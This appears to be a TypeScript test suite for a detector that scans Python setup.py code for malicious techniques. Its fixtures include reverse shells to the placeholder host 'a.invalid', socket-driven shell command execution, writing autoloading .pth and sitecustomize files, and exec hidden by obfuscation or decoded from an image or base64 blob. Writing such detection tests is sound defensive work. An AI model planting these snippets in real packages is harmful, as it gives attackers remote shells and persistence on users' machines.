import { pythonReady } from './grammar';
import { readPython } from './read-python';

const signalsOf = (code: string) => readPython('setup.py', code).observations.map(({ signal }) => signal);

describe('ast/python/techniques', () => {
  beforeAll(pythonReady);

  it.each<[title: string, signal: string, code: string]>([
    [
      'a shell on a connection, in a thread',
      'reverse-shell',
      `import os, pty, socket, threading
def ship():
    s = socket.socket()
    s.connect(("a.invalid", 1))
    for d in (0, 1, 2):
        os.dup2(s.fileno(), d)
    pty.spawn("/bin/sh")
threading.Thread(target=ship).start()`,
    ],
    [
      'a shell on a connection that a thread is given',
      'reverse-shell',
      `import socket, subprocess, threading
def serve(link):
    subprocess.Popen(["/bin/sh", "-i"], stdin=link, stdout=link, stderr=link)
s = socket.create_connection(("a.invalid", 1))
threading.Thread(target=serve, args=(s,)).start()`,
    ],
    [
      'commands out of a connection, in a pool',
      'remote-code',
      `import socket, subprocess
from concurrent.futures import ThreadPoolExecutor
def loop(link):
    subprocess.run(link.recv(1024).decode(), shell=True)
ThreadPoolExecutor().submit(loop, socket.create_connection(("a.invalid", 1)))`,
    ],
    [
      'a .pth that is opened beside the installed packages',
      'autoload-written',
      'import os, sysconfig\nwith open(os.path.join(sysconfig.get_paths()["purelib"], "z.pth"), "w") as out:\n    out.write("x")',
    ],
    [
      'a sitecustomize that is written by its path',
      'autoload-written',
      'import site\nfrom pathlib import Path\n(Path(site.getsitepackages()[0]) / "sitecustomize.py").write_text("x = 1")',
    ],
    [
      'what is written there, read as code',
      'decoded-code',
      'import site\nfrom pathlib import Path\nPath(site.getusersitepackages() + "/z.pth").write_text("import base64; exec(base64.b64decode(\'eA==\'))")',
    ],
    [
      'exec out of the members of builtins',
      'decoded-code',
      'import builtins\nvars(builtins)["ex" + "ec"](bytes.fromhex("78"))',
    ],
    ['the same by __dict__', 'decoded-code', '__import__("builtins").__dict__["exec"](bytes.fromhex("78"))'],
    ['exec that is handed on', 'decoded-code', 'list(map(exec, [bytes.fromhex("78")]))'],
    ['letters that look like others', 'decoded-code', '𝘦𝘹𝘦𝘤(bytes.fromhex("78"))'],
    [
      'a picture whose rest is decoded',
      'asset-code',
      'def tail():\n    with open("logo.png", "rb") as f:\n        return f.read()[99:]\nvars(__builtins__)["exec"](bytes(b ^ 7 for b in tail()))',
    ],
    [
      'a decoded file that is started',
      'decoded-code',
      'import base64, subprocess\np = "/tmp/x"\nopen(p, "wb").write(base64.b64decode(DATA))\nsubprocess.Popen([p])',
    ],
  ])('sees %s', (_title, signal, code) => {
    expect(signalsOf(code)).toContain(signal);
  });

  it.each<[title: string, signal: string, code: string]>([
    [
      'streams that go to a file',
      'reverse-shell',
      'import os, socket, sys\nlog = open("x.log", "a")\nos.dup2(log.fileno(), sys.stdout.fileno())',
    ],
    [
      'a program that is fed a download',
      'reverse-shell',
      'import requests, subprocess\nsubprocess.run(["tar", "x"], stdin=requests.get("https://a.example", stream=True).raw)',
    ],
    [
      'a .pth that is built into the wheel',
      'autoload-written',
      'import os\ndef run(self):\n    with open(os.path.join(self.build_lib, "z.pth"), "w") as out:\n        out.write("import z")',
    ],
    ['a .pth that is read', 'autoload-written', 'open("z.pth").read()'],
    ['a template that is compiled', 'decoded-code', 'exec("class {}: pass".format("A"))'],
  ])('is silent about %s', (_title, signal, code) => {
    expect(signalsOf(code)).not.toContain(signal);
  });
});
